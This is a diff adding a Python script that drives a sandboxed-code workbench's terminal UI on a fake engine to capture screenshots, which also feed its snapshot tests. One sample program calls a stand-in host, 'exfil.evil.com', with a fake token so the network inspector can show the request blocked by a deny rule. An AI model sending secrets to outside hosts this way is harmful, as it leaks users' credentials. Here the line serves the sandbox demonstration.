@@ -1,0 +1,243 @@
+"""Screenshots of the workbench's main views, from the real app on the fake engine.
+
+    .venv/bin/python -m isol8_tui.screenshots [OUTPUT_DIR]     # default: screenshots/
+
+The same scenes drive the snapshot tests (tests/tui/test_snapshots.py), so what the README shows is
+what the tests check. Everything in them is deterministic: the fake engine's clock is virtual, the
+cursor does not blink, animations are off and no file watcher runs.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import re
+import sys
+import tempfile
+from collections.abc import Awaitable, Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+from textual.pilot import Pilot
+
+from engine.config import TuiSettings
+from isol8_tui.app import WorkbenchApp, make_app
+from isol8_tui.bridge import SessionSpec
+from isol8_tui.fake_engine import FakeBackend
+from isol8_tui.screens.main import MainScreen
+
+HELLO = """\
+import platform
+
+print("hello from isol8")
+print("every run starts in a hardened container")
+"""
+
+TRAINING = """\
+import sys
+import time
+
+print("epoch 1/4  loss=0.912  acc=0.61")
+print("epoch 2/4  loss=0.604  acc=0.74")
+print("epoch 3/4  loss=0.388  acc=0.83")
+print("checkpoint saved to /sandbox/model.pt", file=sys.stderr)
+while True:
+    time.sleep(1)
+"""
+
+FAILING = """\
+import json
+import sys
+
+settings = json.loads('{"retries": 3}')
+print("loaded settings")
+print("connecting to the queue")
+print("retrying in 2 s", file=sys.stderr)
+raise KeyError("timeout")
+"""
+
+FETCHING = """\
+from urllib.request import urlopen
+
+print(urlopen("https://pypi.org/simple/requests/").status)
+print(urlopen("https://files.pythonhosted.org/packages/requests.whl").status)
+print(urlopen("http://api.github.com/repos/python/cpython").status)
+print(urlopen("http://exfil.evil.com/upload?token=s3cr3t").status)
+print(urlopen("https://pypi.org/simple/six/").status)
+"""
+
+WRITING = """\
+import csv
+
+open("/sandbox/report.csv", "w").write("city,temp\\nLisbon,21\\nOslo,4\\n")
+open("/sandbox/out/summary.txt", "w").write("2 cities")
+print("wrote report.csv and out/summary.txt")
+"""
+
+FILTERED = SessionSpec("python", "filtered", (r"(.*\.)?pypi\.org", r"files\.pythonhosted\.org"), (r".*\.evil\.com",))
+
+
+@dataclass
+class Scene:
+    """One view: the file the app opens, its size, and what to do before the picture."""
+
+    name: str
+    title: str
+    code: str
+    drive: Callable[[Pilot[Any]], Awaitable[None]]
+    size: tuple[int, int] = (150, 36)
+    filename: str = "main.py"
+    app_options: dict[str, Any] = field(default_factory=dict)
+
+
+def main_screen(pilot: Pilot[Any]) -> MainScreen:
+    screen = pilot.app.screen_stack[0]
+    assert isinstance(screen, MainScreen)
+    return screen
+
+
+async def started(pilot: Pilot[Any]) -> MainScreen:
+    """The main screen once it has started and its first session is warm (so every scene begins in
+    the same state, whatever the order in which the background checks finish)."""
+    warming = ("new", "starting")
+    for _ in range(1000):
+        if pilot.app.screen_stack and isinstance(pilot.app.screen_stack[0], MainScreen):
+            screen = pilot.app.screen_stack[0]
+            first = next((s for s in screen.bridge.sessions.values() if not s.scratch), None)
+            if screen.started and screen.docker_available and first is not None and first.state not in warming:
+                return screen
+        await pilot.pause(0.01)
+    raise RuntimeError("the workbench did not start")
+
+
+async def settle(pilot: Pilot[Any], until: Callable[[], bool] | None = None, rounds: int = 200) -> None:
+    """Let workers and messages run until `until()` (or everything is quiet)."""
+    await started(pilot)
+    for _ in range(rounds if until is not None else 3):
+        await pilot.pause()
+        if until is not None and until():
+            break
+    await pilot.pause()
+    main_screen(pilot).outputs.flush()
+    await pilot.pause()
+    pilot.app.clear_notifications()
+    await pilot.pause()
+
+
+async def run_to_end(pilot: Pilot[Any]) -> None:
+    screen = await started(pilot)
+    await pilot.press("ctrl+r")
+    await settle(pilot, lambda: screen.current_run is None and screen.last_status != "idle")
+
+
+async def empty(pilot: Pilot[Any]) -> None:
+    await settle(pilot)
+
+
+async def running(pilot: Pilot[Any]) -> None:
+    screen = await started(pilot)
+    await pilot.press("ctrl+r")
+    engine = screen.selected.engine if screen.selected else None
+    await settle(pilot, lambda: bool(getattr(engine, "holding", False)))
+    screen._show_running()  # the elapsed time as of now (the run waits in its loop: the clock stands still)
+    await pilot.pause()
+
+
+async def failed(pilot: Pilot[Any]) -> None:
+    await run_to_end(pilot)
+
+
+async def network(pilot: Pilot[Any]) -> None:
+    screen = await started(pilot)
+    screen.create_session(FILTERED)
+    await run_to_end(pilot)
+    screen.action_focus_pane("network")
+    await pilot.pause()
+    await pilot.press("down", "down", "down")
+    await settle(pilot)
+
+
+async def session_dialog(pilot: Pilot[Any]) -> None:
+    await settle(pilot)
+    await pilot.press("ctrl+n")
+    await pilot.pause()
+    await pilot.click("#ns-net-filtered")
+    await pilot.pause()
+    await pilot.click("#ns-whitelist")
+    await pilot.press(*r"(.*\.)?pypi\.org, files\.pythonhosted\.org")
+    await pilot.click("#ns-blacklist")
+    await pilot.press(*r".*\.evil\.com")
+    await settle(pilot)
+
+
+async def help_screen(pilot: Pilot[Any]) -> None:
+    await settle(pilot)
+    await pilot.press("f1")
+    await settle(pilot)
+
+
+async def files(pilot: Pilot[Any]) -> None:
+    screen = await started(pilot)
+    await run_to_end(pilot)
+    screen.action_focus_pane("files")
+    await settle(pilot, lambda: bool(screen.files.entries))
+
+
+SCENES: list[Scene] = [
+    Scene("empty", "Just opened: the file, the session that runs it, Docker and the pool", HELLO, empty),
+    Scene("running", "A run in flight: output streams in live; Stop cancels it", TRAINING, running),
+    Scene("error", "Finished with an error: exit code, duration, stderr apart", FAILING, failed),
+    Scene("network", "Network inspector: a filtered session's requests, blocked ones in red", FETCHING, network),
+    Scene("session-dialog", "New session: runtime and network policy with allow and deny lists", HELLO, session_dialog),
+    Scene("help", "F1: the focused pane's keys, then the global ones", HELLO, help_screen),
+    Scene("files", "Files: the session's /sandbox, with upload and download", WRITING, files),
+    Scene("narrow", "At 80x24: the editor above the results, sessions on f2", FAILING, failed, size=(80, 24)),
+]
+
+
+def build_app(scene: Scene, folder: Path, backend: FakeBackend | None = None) -> WorkbenchApp:
+    """The scene's app on the fake engine, with its file written into `folder` (the working directory)."""
+    path = folder / scene.filename
+    path.write_text(scene.code, encoding="utf-8")
+    options: dict[str, Any] = {
+        "watch": False,
+        "cursor_blink": False,
+        "animations": False,
+        "settings": TuiSettings(),
+        **scene.app_options,
+    }
+    return make_app(Path(scene.filename), backend=backend or FakeBackend(), **options)
+
+
+def normalize_svg(svg: str) -> str:
+    """Drop the per-render ids so regenerating unchanged views changes no file."""
+    return re.sub(r"\bterminal-\d+-", "terminal-", svg)
+
+
+async def capture(scene: Scene, folder: Path) -> str:
+    app = build_app(scene, folder)
+    async with app.run_test(size=scene.size, notifications=True) as pilot:
+        await scene.drive(pilot)
+        return normalize_svg(app.export_screenshot(title=f"isol8 workbench · {scene.title}"))
+
+
+def main(argv: list[str] | None = None) -> int:
+    args = sys.argv[1:] if argv is None else argv
+    output = Path(args[0] if args else "screenshots").resolve()
+    output.mkdir(parents=True, exist_ok=True)
+    here = Path.cwd()
+    with tempfile.TemporaryDirectory(prefix="isol8-screens-") as tmp:
+        os.chdir(tmp)
+        try:
+            for scene in SCENES:
+                svg = asyncio.run(capture(scene, Path(tmp)))
+                (output / f"{scene.name}.svg").write_text(svg, encoding="utf-8")
+                print(f"{output / scene.name}.svg  {scene.title}")
+        finally:
+            os.chdir(here)
+    return 0
+
+
+if __name__ == "__main__":
+    raise SystemExit(main())
